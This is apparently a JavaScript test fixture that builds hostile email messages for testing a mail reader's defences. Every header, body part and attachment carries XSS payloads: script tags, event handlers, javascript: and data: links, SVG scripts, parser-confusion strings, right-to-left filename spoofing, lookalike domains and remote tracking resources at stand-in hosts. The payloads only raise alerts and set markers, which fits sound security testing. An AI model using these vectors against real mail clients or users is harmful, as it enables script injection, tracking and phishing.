// Messages that tests make up. Bytes, not strings: hostile mail holds what no string of one encoding does.

let serial = 0;

/** A time as mail writes it (RFC 5322, section 3.3). */
export const date = (at) => new Date(at).toUTCString().replace("GMT", "+0000");

/** One message to somebody of the invented organisation, sent now. Fields are written as they are given, in this order. */
export function message({ fields = {}, body = "Nothing to see.", ...more } = {}) {
  const all = {
    From: "Harbour Weekly <news@harbourweekly.example>",
    To: "Tomas Lindqvist <t.lindqvist@kestrelquay.example>",
    Subject: "A message of a test",
    Date: date(Date.now()),
    "Message-ID": `<${process.pid}.${++serial}@harbourweekly.example>`,
    ...more,
    "MIME-Version": "1.0",
    "Content-Type": "text/plain; charset=utf-8",
    ...fields,
  };
  const lines = Object.entries(all).flatMap(([name, values]) => [values].flat().map((v) => `${name}: ${v}`));
  return Buffer.from([...lines, "", body].join("\r\n"), "utf8");
}

/** Somebody of the invented organisation who gets only hostile mail. */
export const victim = "f.dunlop@kestrelquay.example";

/** What must never run: it leaves a trace in every window it can reach, and shows itself. */
const attack = (where) => `try{top.pwned=(top.pwned||"")+"${where} "}catch(e){};window.pwned="${where}";alert("${where}")`;

/** Characters that nobody sees or that turn text around: override, isolate, zero width, soft hyphen, tag, controls. */
export const unseen = "\u202egnp.\u2066x\u2069\u202c\u200bzero\u00adsoft\u{e0041}\u0007bell\u001b[31m\u007f";

/** Text that is a script in most places a careless program could put it, marked by where it was written. */
export const hostile = (where) => `${where}"'><script>${attack(where)}</script><img src=x onerror='${attack(where)}'>\${7*7}{{7*7}}`;

const word = (text) => `=?utf-8?B?${Buffer.from(text, "utf8").toString("base64")}?=`;

// A line of a header may have 998 octets (RFC 5322, section 2.1.1), an encoded word 75; attackers keep to neither.
const endless = "W".repeat(3000);

/**
 * A message in which every field that a screen shows is hostile. Marks such as "SUBJECT" say which is which; tag keeps two of
 * them apart.
 */
export function hostileMessage(tag, { html = true } = {}) {
  const inner = message({ Subject: hostile("INNER"), From: `${word(hostile("INNERFROM"))} <inner@hostile.example>` }).toString("latin1");
  const fields = [
    [`Received`, `from ${hostile("HELO").replaceAll(" ", "")} (${hostile("RDNS")} [203.0.113.99]) by mx1.kestrelquay.example (${hostile("SOFTWARE")}) with ESMTP id ${unseen}; ${date(Date.now())}`],
    [`Received`, `from "\u202e"${unseen} by <b>${hostile("BY")}</b>; not a date ${endless}`],
    [`Authentication-Results`, `evil.example; spf=pass smtp.mailfrom=${hostile("AUTHRES")}; dkim=pass header.d=${hostile("AUTHDKIM")}`],
    [`DKIM-Signature`, `v=1; a=rsa-sha256; d=${hostile("DKIMD").replaceAll(";", "")}; s=${unseen}; h=from; bh=x; b=y`],
    [`Return-Path`, `<"${hostile("RETURNPATH").replaceAll('"', "")}"@hostile.example>`],
    [`From`, `${word(hostile(`FROM${tag}`) + unseen)} <"from<script>${attack("FROMADDR").replaceAll('"', "'")}</script>"@xn--pypal-4ve.hostile.example>`],
    [`Reply-To`, `${word(hostile("REPLYTO"))} <"reply<img src=x onerror=alert(1)>"@hostile.example>`],
    [`To`, `${word(hostile("TO") + unseen)} <${victim}>`],
    [`Cc`, `"${hostile("CC").replaceAll('"', "")}" <cc@hostile.example>`],
    [`Subject`, `${word(`${tag} ${hostile("SUBJECT")}${unseen}\u0000nul`)} raw <svg onload=alert(1)> ${endless}`],
    [`Message-ID`, `<${tag}"><script>${attack("MESSAGEID")}</script>@hostile.example>`],
    [`Date`, date(Date.now())],
    [`List-Unsubscribe`, `<javascript:${attack("LISTUNSUB")}>, <mailto:${hostile("LISTMAILTO")}>`],
    [`List-Id`, `${hostile("LISTID")} <${hostile("LISTID2")}>`],
    [`X-Mailer`, `${hostile("MAILER")}${unseen}`],
    [`X-<b onmouseover=alert(1)>`, hostile("NAME")],
    [`Content-Language`, hostile("LANG")],
    [`MIME-Version`, "1.0"],
    [`Content-Type`, `multipart/mixed; boundary="b1"`],
  ];
  const file = (name, type, content, more = "") => [
    "--b1", `Content-Type: ${type}`, `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(name)}`, "Content-Transfer-Encoding: base64", ...(more ? [more] : []), "", Buffer.from(content).toString("base64"),
  ];
  const body = [
    "--b1", 'Content-Type: multipart/alternative; boundary="b2"', "",
    "--b2", "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit", "", hostileText,
    ...(html ? ["--b2", "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: 8bit", "", hostileHtml] : []),
    "--b2--",
    ...file(`FILE${hostile("FILENAME")}${unseen}.pdf`, `application/pdf; name="${hostile("TYPENAME").replaceAll('"', "")}"`, "%PDF-1.4\nnothing"),
    ...file(`../../../${"n".repeat(600)}.html`, "text/html", `<script>${attack("HTMLFILE")}</script><a href="javascript:${attack("FILELINK")}">x</a>`),
    ...file("invoice\u202efdp.exe", "application/x-<script>alert(1)</script>", "MZ nothing"),
    ...file("picture.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload='${attack("SVGFILE")}'><script>${attack("SVGFILE")}</script></svg>`),
    "--b1", "Content-Type: message/rfc822", "", inner,
    "--b1--", "",
  ];
  return Buffer.from([...fields.map(([n, v]) => `${n}: ${v}`), "", ...body].join("\r\n"), "utf8");
}

const hostileText = `TEXT ${hostile("TEXTBODY")} ${unseen}\u0000nul
javascript:${attack("TEXTJS")} http://links.hostile.example/${hostile("TEXTLINK").replaceAll(" ", "")} data:text/html,<script>${attack("TEXTDATA")}</script>
${endless}`;

// Ways into a page that were used against mail readers: each would run, or call out, in a document that keeps it. What confuses
// parsers stands last, so that it hides nothing of the rest.
const hostileHtml = `<!doctype html><html><head><base href="http://base.hostile.example/"><meta http-equiv="refresh" content="0;url=http://refresh.hostile.example/">
<link rel="stylesheet" href="http://style.hostile.example/s.css"><link rel="prefetch" href="http://prefetch.hostile.example/"><link rel="dns-prefetch" href="//dns.hostile.example">
<style>@import url(http://import.hostile.example/i.css); body{background:url(http://bg.hostile.example/b.png)} @font-face{font-family:f;src:url(http://font.hostile.example/f.woff)} p{font-family:f;width:expression(alert(1));-moz-binding:url(http://xbl.hostile.example/)} html,body{position:fixed;top:0}</style>
<script>${attack("HTMLSCRIPT")}</script><script src="http://script.hostile.example/s.js"></script></head>
<body onload='${attack("BODYONLOAD")}' background="http://bodybg.hostile.example/b.png">
<p>HTMLTEXT &lt;script&gt;alert("shown")&lt;/script&gt; ${unseen}</p>
<p>${hostile("HTMLBODY")}</p>
<img src="http://pixel.hostile.example/p.gif" width=1 height=1><img srcset="http://srcset.hostile.example/p.gif 2x"><picture><source srcset="http://source.hostile.example/p.webp"><img src="//scheme.hostile.example/p.png"></picture>
<img src="x" onerror='${attack("IMGONERROR")}'><img src=x onerror&#61;alert(1)><svg onload='${attack("SVGONLOAD")}'><script>${attack("SVGSCRIPT")}</script><a xlink:href="javascript:alert(1)"><text>SVGTEXT</text></a><use href="http://use.hostile.example/u.svg#x"/><animate onbegin='${attack("ANIMATE")}' attributeName=x dur=1s></svg>
<iframe src="http://frame.hostile.example/"></iframe><iframe srcdoc="<script>parent.pwned='srcdoc'</script>"></iframe><iframe src="javascript:parent.pwned='frame'"></iframe><object data="http://object.hostile.example/o.swf"></object><embed src="http://embed.hostile.example/e.swf"><applet code="x"></applet>
<form action="http://form.hostile.example/" id="f"><input name="password" type="password" autofocus onfocus='${attack("ONFOCUS")}'><button formaction="javascript:alert(1)">FORMBUTTON</button></form><input type=image src="http://inputimage.hostile.example/i.png">
<video src="http://video.hostile.example/v.mp4" poster="http://poster.hostile.example/p.png" autoplay onplay=alert(1)></video><audio src="http://audio.hostile.example/a.mp3" autoplay></audio><details open ontoggle='${attack("ONTOGGLE")}'>DETAILS</details><marquee onstart='${attack("ONSTART")}'>MARQUEE</marquee>
<a href="javascript:${attack("JSLINK")}">JSLINKTEXT</a> <a href="jav&#x09;ascript:alert(1)">TABLINK</a> <a href="data:text/html,<script>alert(1)</script>">DATALINK</a> <a href="vbscript:msgbox(1)">VBLINK</a>
<a href="http://real.hostile.example/path?q=<script>" onclick='${attack("ONCLICK")}' target="_top" ping="http://ping.hostile.example/">https://bank.example/login</a>
<a href="http://xn--pypal-4ve.hostile.example/\u202efdp.exe">LINKTEXT ${unseen} &lt;img src=x onerror=alert(1)&gt;</a>
<div style="position:fixed;inset:0;z-index:2147483647;background:url(http://overlay.hostile.example/o.png)" onmousemove='${attack("OVERLAY")}'>OVERLAY</div>
<table background="http://tablebg.hostile.example/t.png"><tr><td style="background-image:url('http://tdbg.hostile.example/t.png');list-style:url(http://list.hostile.example/l.png)">CELL</td></tr></table>
<p>${endless}</p><!--[if mso]><script>alert(1)</script><![endif]--><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><xmp><p title="</xmp><svg/onload=alert(1)>"></xmp><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<plaintext>PLAINTEXTEND`;
